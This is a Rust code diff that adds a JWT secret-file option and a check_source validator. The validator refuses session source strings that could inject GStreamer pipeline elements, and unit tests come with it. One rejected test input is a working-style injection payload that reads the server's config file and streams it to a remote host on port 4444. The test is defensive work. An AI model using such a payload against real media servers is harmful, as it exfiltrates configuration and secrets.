@@ -111,6 +111,11 @@ pub const KEYS: &[(&str, &str, &str)] = &[
         "Ed25519 SAM signing key, 64 hex digits (overrides sam_key_file)",
     ),
     (
+        "token_secret_file",
+        "",
+        "HS256 key (hex) of signed, scoped, expiring tokens (JWT); created (0600) if absent",
+    ),
+    (
         "sam_key_file",
         "",
         "file of the SAM signing key; made at first start (empty: a key per run)",
@@ -491,6 +496,7 @@ impl SessionConfig {
             ));
         }
         let source = self.source.clone().unwrap_or_else(|| "synthetic".into());
+        check_source(&source).map_err(|reason| Error::config(&key("source"), reason))?;
         let video = if source == "synthetic" {
             None
         } else if crate::video::FrameSource::from_source(&source).is_some() {
@@ -780,7 +786,12 @@ pub fn load(args: &[String], env: &BTreeMap<String, String>) -> Result<Cli> {
         pacer_spin: Duration::from_micros(parse_val("pacer_spin_us", v("pacer_spin_us"))?),
         pacer_realtime: parse_bool("pacer_realtime", v("pacer_realtime"))?,
         sessions,
-        tokens: crate::auth::Tokens::new(v("api_token"), v("player_token"), v("dashboard_token"))?,
+        tokens: crate::auth::Tokens::new(v("api_token"), v("player_token"), v("dashboard_token"))?
+            .with_jwt_secret_file(
+                Some(v("token_secret_file"))
+                    .filter(|s| !s.is_empty())
+                    .map(std::path::Path::new),
+            )?,
         sam_key: Some(v("sam_key").to_string()).filter(|s| !s.is_empty()),
         sam_key_file: Some(v("sam_key_file"))
             .filter(|s| !s.is_empty())
@@ -811,6 +822,40 @@ pub fn load(args: &[String], env: &BTreeMap<String, String>) -> Result<Cli> {
         http_max_websockets: parse_val("http_max_websockets", v("http_max_websockets"))?,
     };
     Ok(Cli::Run(Box::new(cfg)))
+}
+
+/// URI schemes a session `source` may use; anything else is refused at config time.
+pub const SOURCE_SCHEMES: &[&str] = &["file", "http", "https", "rtsp", "srt", "v4l2"];
+
+/// A session `source` is a name (`synthetic`, `testpattern`, `gst-testpattern`) or one URI
+/// with an allowed scheme (F1). A URI is parsed as such (RFC 3986) and must be a single token
+/// with none of the characters that would mean something to a pipeline description
+/// (whitespace, `!`, quotes, `,`, `=` outside the query, control characters): whatever builds
+/// the source from it, the string can never add elements.
+pub fn check_source(source: &str) -> std::result::Result<(), String> {
+    if matches!(source, "synthetic" | "testpattern" | "gst-testpattern") {
+        return Ok(());
+    }
+    if source.len() > 2048 {
+        return Err("source URI longer than 2048 bytes".into());
+    }
+    let u = url::Url::parse(source).map_err(|e| format!("{source:?} is not a URI: {e}"))?;
+    if !SOURCE_SCHEMES.contains(&u.scheme()) {
+        return Err(format!(
+            "scheme {:?} not allowed (one of {})",
+            u.scheme(),
+            SOURCE_SCHEMES.join(", ")
+        ));
+    }
+    let (before_query, _) = source.split_once('?').unwrap_or((source, ""));
+    let bad =
+        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '!' | '"' | '\'' | '`' | '\\');
+    if source.chars().any(bad) || before_query.contains(['=', ',']) {
+        return Err(format!(
+            "{source:?}: a source URI has no whitespace, quotes, `!`, or `=`/`,` outside its query"
+        ));
+    }
+    Ok(())
 }
 
 /// Splits a TOML file into server-level scalars (as strings) and `[[session]]` tables.
@@ -874,6 +919,36 @@ fn help() -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// F1: the pipeline-injection payload of the review and its variants are refused before
+    /// any source is built; plain URIs pass.
+    #[test]
+    fn sources_are_uris_with_allowed_schemes_and_no_pipeline_text() {
+        for ok in [
+            "synthetic",
+            "testpattern",
+            "gst-testpattern",
+            "file:///srv/media/talk.mkv",
+            "rtsp://cam.local:554/stream1",
+            "http://media.local/live.ts?token=abc&x=1",
+            "v4l2:///dev/video0",
+        ] {
+            assert!(check_source(ok).is_ok(), "{ok}");
+        }
+        for bad in [
+            "file:///x filesrc location=/etc/layercast/server.toml ! tcpclientsink host=h port=4444 videotestsrc",
+            "file:///x!filesink",
+            "file:///x\tfilesrc",
+            "file:///a,b",
+            "rtsp://h/x location=y",
+            "data:text/plain,hi",
+            "gopher://h/",
+            "appsrc",
+            "file:///x\"y",
+        ] {
+            assert!(check_source(bad).is_err(), "{bad}");
+        }
+    }
 
     fn args(v: &[&str]) -> Vec<String> {
         v.iter().map(|s| s.to_string()).collect()
